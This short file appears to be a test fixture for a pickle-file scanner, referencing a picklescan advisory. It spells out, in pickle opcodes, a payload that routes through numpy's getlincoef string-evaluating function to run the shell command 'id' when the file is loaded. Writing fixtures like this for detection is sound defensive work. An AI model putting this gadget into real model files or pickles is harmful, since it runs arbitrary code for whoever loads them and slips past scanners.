#! technique 61 numpy.f2py.crackfortran.getlincoef evaluates a string
#! expect PICKLE-EXEC numpy.f2py.crackfortran.getlincoef
# picklescan GHSA-r8g5-cgf2-4m4m, CVE-2025-71365.
PROTO 4
SHORT_BINUNICODE "numpy.f2py.crackfortran"
SHORT_BINUNICODE "getlincoef"
STACK_GLOBAL
SHORT_BINUNICODE "__import__('os').system('id')"
EMPTY_LIST
TUPLE2
REDUCE
STOP
